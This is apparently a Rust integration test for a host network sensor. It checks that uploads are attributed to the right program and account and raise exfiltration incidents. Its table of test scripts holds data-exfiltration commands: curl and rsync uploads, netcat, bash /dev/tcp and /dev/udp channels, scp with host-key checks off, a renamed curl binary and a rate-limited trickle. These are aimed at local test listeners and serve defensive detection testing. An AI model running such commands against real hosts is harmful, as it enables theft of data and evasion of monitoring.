//! Uploads of every sort to a world of its own: each connection is told with its program, its account and its bytes, and
//! the incidents are exactly those that the table says.

use super::postgres::{Mode, Postgres};
use super::sensor::{lines, sensor};
use super::servers::{command_as, directory_for};
use super::world::World;
use crate::support::agent::Setup;
use crate::support::{Guard, Scratch, run, until};
use rustix::process::Signal;
use serde_json::Value;
use std::collections::BTreeMap;
use std::io::Read;
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

const LIMIT: Duration = Duration::from_secs(120);

/// What an upload is told as.
#[derive(Clone, Copy)]
enum Told {
    /// Nothing: it stays in the country, is small, or never came to be.
    Not,
    /// An incident of this kind, whose actor is the account.
    Kind(&'static str),
}

/// One upload: its port, the account, the program that has the connection, the script, and what it is told as. `$TO`,
/// `$TO6` and `$HOME_TO` are the addresses of the world, `$FILE` is 3 MiB.
type Upload = (u16, &'static str, &'static str, &'static str, Told);

const UPLOADS: [Upload; 12] = [
    (9001, "games", "curl", "curl -sS -H Expect: -T $FILE http://$TO:9001/a", Told::Kind("foreign_transfer")),
    (9002, "man", "curl", "curl -gsS -H Expect: -T $FILE http://[$TO6]:9002/a", Told::Kind("foreign_transfer")),
    (9003, "lp", "nc", "nc -N $TO 9003 < $FILE", Told::Kind("covert_channel")),
    (
        9004,
        "mail",
        "invoice",
        "cp /usr/bin/curl invoice; ./invoice -sS -H Expect: -T $FILE http://$TO:9004/a",
        Told::Kind("foreign_transfer"),
    ),
    // A process of some milliseconds. What a shell connects to itself a rule tells, however little it sends.
    (
        9005,
        "news",
        "bash",
        "bash -c 'exec 3<>/dev/tcp/$TO/9005; printf %0100000d 0 >&3; kill -9 $$$$' || true",
        Told::Kind("covert_channel"),
    ),
    (
        9006,
        "uucp",
        "bash",
        "for i in $(seq 3000); do exec 3<>/dev/tcp/$TO/9006; printf %0500d 0 >&3; exec 3>&-; done",
        Told::Kind("covert_channel"),
    ),
    (9007, "proxy", "rsync", "rsync $FILE rsync://$TO:9007/in/", Told::Kind("foreign_transfer")),
    (
        9008,
        "backup",
        "psql",
        "psql -X -q -h $TO -p 9008 -U analyst -d mfo -c 'SELECT 1' > answer",
        Told::Kind("service_traffic"),
    ),
    (9009, "news", "curl", "curl -sS -H Expect: -T $FILE http://$HOME_TO:9009/a", Told::Not),
    (9010, "news", "bash", "echo hello 2>&1 > /dev/tcp/$TO/9010 || true", Told::Not),
    (
        9011,
        "daemon",
        "bash",
        "for i in $(seq 2000); do printf %01000d 0 > /dev/udp/$TO/9011; done",
        Told::Kind("foreign_transfer"),
    ),
    (9012, "bin", "ssh", SCP, Told::Kind("foreign_transfer")),
];

/// Copies by SSH, with a key of the folder.
const SCP: &str = "scp -q -F none -i key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -P 9012 $FILE root@$TO:/dev/null";

/// Takes what comes until the other side ends, and counts it by port.
fn sink(listener: TcpListener, received: &Arc<Mutex<BTreeMap<u16, u64>>>) {
    let port = listener.local_addr().expect("own address").port();
    let received = Arc::clone(received);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let received = Arc::clone(&received);
            std::thread::spawn(move || {
                let (mut room, mut total) = (vec![0; 64 << 10], 0);
                let mut answered = false;
                while let Ok(count @ 1..) = stream.read(&mut room) {
                    total += count as u64;
                    // A client of HTTP waits for an answer once all is sent.
                    if !answered && total >= 3 << 20 {
                        answered = true;
                        let answer = b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
                        let _ = std::io::Write::write_all(&mut stream, answer);
                    }
                }
                *received.lock().expect("no thread panics").entry(port).or_default() += total;
            });
        }
    });
}

/// Hands what comes on to `to`, and what is answered back.
fn relay(listener: TcpListener, to: u16, received: &Arc<AtomicU64>) {
    let received = Arc::clone(received);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let server = std::net::TcpStream::connect(("127.0.0.1", to)).expect("the server listens");
            let (mut up, mut down) = (stream.try_clone().expect("a socket"), stream);
            let (mut server_in, mut server_out) = (server.try_clone().expect("a socket"), server);
            let received = Arc::clone(&received);
            std::thread::spawn(move || {
                let copied = std::io::copy(&mut up, &mut server_in).unwrap_or(0);
                received.fetch_add(copied, Ordering::Relaxed);
                let _ = server_in.shutdown(std::net::Shutdown::Write);
            });
            std::thread::spawn(move || std::io::copy(&mut server_out, &mut down));
        }
    });
}

/// Servers of other tools inside the world: rsync's at 9007, sshd's at 9012.
fn tools(world: &World, scratch: &Scratch) -> [Guard; 2] {
    let (inside, config) = (scratch.join("in"), scratch.join("rsyncd.conf"));
    std::fs::create_dir(&inside).expect("own folder");
    let text = format!("use chroot = no\n[in]\npath = {}\nread only = no\nuid = root\ngid = root\n", inside.display());
    std::fs::write(&config, text).expect("own file");
    let mut rsync = world.command("rsync");
    rsync.args(["--daemon", "--no-detach", "--port=9007"]).arg(format!("--config={}", config.display()));
    let rsync = Guard::spawn("rsync", &mut rsync, &scratch.join("rsync.log"), Signal::TERM);
    for key in ["host", "key"] {
        run(Command::new("ssh-keygen").args(["-q", "-t", "ed25519", "-N", "", "-f"]).arg(scratch.join(key)));
    }
    let _ = std::fs::create_dir("/run/sshd");
    let mut sshd = world.command("/usr/sbin/sshd");
    sshd.args(["-D", "-e", "-f", "none", "-p", "9012", "-o", "StrictModes=no", "-o", "PermitRootLogin=yes", "-h"]);
    sshd.arg(scratch.join("host")).arg("-o").arg(format!("AuthorizedKeysFile={}", scratch.join("key.pub").display()));
    sshd.args(["-o", "PidFile=none", "-o", "Subsystem=sftp internal-sftp"]);
    [rsync, Guard::spawn("sshd", &mut sshd, &scratch.join("sshd.log"), Signal::TERM)]
}

/// Runs an upload as its account.
fn send((port, user, _, script, _): &Upload, world: &World, scratch: &Scratch, file: &Path) {
    let folder = scratch.join(format!("from-{port}"));
    directory_for(user, &folder, 0o700);
    if *port == 9012 {
        std::fs::copy(scratch.join("key"), folder.join("key")).expect("the key");
        run(Command::new("chown").arg(user).arg(folder.join("key")));
    }
    let script = script.replace("$$$$", "\\$\\$");
    let mut command = command_as(user, Path::new("/usr/bin/setsid"));
    command.args(["--wait", "bash", "-c", &format!("{script}; true")]).current_dir(&folder);
    command.env("FILE", file).env("TO", &world.abroad).env("TO6", &world.abroad6).env("HOME_TO", &world.home);
    command.env("PGPASSWORD", "analyst-pw");
    let output = command.output().expect("the script runs");
    assert!(output.status.success(), "{script}: {}", String::from_utf8_lossy(&output.stderr));
}

/// Numbers of the latest line of every flow to a port of the world.
fn told(guard: &Guard, world: &World, port: u16) -> BTreeMap<String, Value> {
    let ours = [world.abroad.as_str(), &world.abroad6, &world.home];
    let mut flows = BTreeMap::new();
    for line in lines(guard) {
        let is = line["sensor"] == "flow" && line["direction"] != "in" && line["remote"][1] == port;
        if is && line["remote"][0].as_str().is_some_and(|address| ours.contains(&address)) {
            flows.insert(line["socket"].to_string(), line);
        }
    }
    flows
}

#[test]
fn every_upload_has_its_program_its_account_and_its_bytes_and_gives_the_incidents_of_the_table() {
    let (server, world, scratch) = (Postgres::start(Mode::Pgaudit), World::new(), Scratch::new("uploads"));
    std::fs::set_permissions(scratch.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("own folder");
    let file = scratch.join("file");
    std::fs::write(&file, vec![b'x'; 3 << 20]).expect("own file");
    let (received, relayed) = (Arc::new(Mutex::new(BTreeMap::new())), Arc::new(AtomicU64::new(0)));
    for port in [9001, 9003, 9004, 9005, 9006] {
        sink(world.listen(&world.abroad, port), &received);
    }
    sink(world.listen(&world.abroad6, 9002), &received);
    sink(world.listen(&world.home, 9009), &received);
    relay(world.listen(&world.abroad, 9008), server.port(), &relayed);
    let datagrams = world.datagrams(&world.abroad, 9011);
    std::thread::spawn(move || while datagrams.recv(&mut [0; 2048]).is_ok() {});
    let _tools = tools(&world, &scratch);
    let guard = sensor(&scratch, &[]);
    let agent = Setup::new("uploads-agent").with("[[source]]\nname = \"host\"\nsensor = {}\n").start();
    until("the sensor works", LIMIT, || {
        (agent.setup.metric("kuzet_source_readable{source=\"host\"}") == Some(1.0)).then_some(())
    });
    for upload in &UPLOADS {
        send(upload, &world, &scratch, &file);
    }

    for (port, user, program, script, _) in &UPLOADS {
        let flows = until(&format!("{script} is told to its end"), LIMIT, || {
            let flows = told(&guard, &world, *port);
            let ends = |line: &&Value| matches!(line["phase"].as_str(), Some("closed" | "refused"));
            let ended = flows.values().filter(ends).count();
            (!flows.is_empty() && (ended == flows.len() || *port == 9011)).then_some(flows)
        });
        let own = |line: &&Value| line["process"]["user"] == *user && line["process"]["name"] == *program;
        let (all, known) = (flows.len(), flows.values().filter(own).count());
        let expected = if *port == 9006 { 3_000 } else { 1 };
        assert!(all >= expected && known == all, "{script}: {known} of {all}, {:?}", flows.values().next());
        let sent: u64 = flows.values().filter_map(|line| line["sent"].as_u64()).sum();
        let came = match port {
            9008 => Some(relayed.load(Ordering::Relaxed)),
            port => received.lock().expect("no thread panics").get(port).copied(),
        };
        if let Some(came) = came.filter(|came| *came > 0) {
            assert!(sent.abs_diff(came) * 50 <= came, "{script}: told {sent} bytes, {came} came");
        }
    }

    let expected: BTreeMap<&str, &str> = UPLOADS
        .iter()
        .filter_map(|(_, user, _, _, told)| match told {
            Told::Kind(kind) => Some((*user, *kind)),
            Told::Not => None,
        })
        .collect();
    let ours = |incident: &Value| UPLOADS.iter().any(|(_, user, ..)| incident["user.name"] == *user);
    let incidents = until("every incident is there", LIMIT, || {
        let incidents: Vec<Value> = agent.setup.incidents().into_iter().filter(ours).collect();
        (incidents.len() >= expected.len()).then_some(incidents)
    });
    let found: BTreeMap<&str, &str> = incidents
        .iter()
        .filter_map(|one| Some((one["user.name"].as_str()?, one["kuzet.kinds"][0]["kind"].as_str()?)))
        .collect();
    assert_eq!((found, incidents.len()), (expected.clone(), expected.len()), "{incidents:#?}");
    agent.setup.accounted("host");
}

/// Bytes a second: five seconds for 1.5 MiB. The long lane sets 2,600, which takes ten minutes.
fn trickle_rate() -> u64 {
    std::env::var("KUZET_TRICKLE_RATE").ok().and_then(|rate| rate.parse().ok()).unwrap_or(300_000)
}

#[test]
fn a_trickle_is_told_while_it_runs() {
    let (world, scratch) = (World::new(), Scratch::new("trickle"));
    std::fs::set_permissions(scratch.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("own folder");
    let file = scratch.join("file");
    std::fs::write(&file, vec![b'x'; 3 << 19]).expect("own file");
    let received = Arc::new(Mutex::new(BTreeMap::new()));
    sink(world.listen(&world.abroad, 9020), &received);
    let agent = Setup::new("trickle-agent").with("[[source]]\nname = \"host\"\nsensor = {}\n").start();
    until("the sensor works", LIMIT, || {
        (agent.setup.metric("kuzet_source_readable{source=\"host\"}") == Some(1.0)).then_some(())
    });
    let script = format!(
        "curl -sS -H Expect: --limit-rate {} -m 3600 --no-keepalive -T $FILE http://$TO:9020/a",
        trickle_rate()
    );
    let limit = LIMIT + Duration::from_secs((3 << 19) / trickle_rate());
    std::thread::scope(|scope| {
        let trickle = scope.spawn(|| {
            // Nobody answers: curl ends when the connection does.
            let mut command = command_as("sys", Path::new("/usr/bin/timeout"));
            command.args([&limit.as_secs().to_string(), "bash", "-c", &script]);
            command.env("FILE", &file).env("TO", &world.abroad);
            let _ = command.output().expect("curl runs");
        });
        let incident = until("it is told", limit, || {
            let is =
                |incident: &Value| incident["user.name"] == "sys" && incident.to_string().contains("foreign_transfer");
            agent.setup.incidents().into_iter().find(is)
        });
        let sent = incident["kuzet.transfers"]["flows"][0]["destination.bytes"].as_u64();
        assert!(!trickle.is_finished() && sent.is_some_and(|sent| sent < 3 << 19), "{incident}");
        // Its job is done.
        run(Command::new("pkill").args(["-u", "sys"]));
    });
}
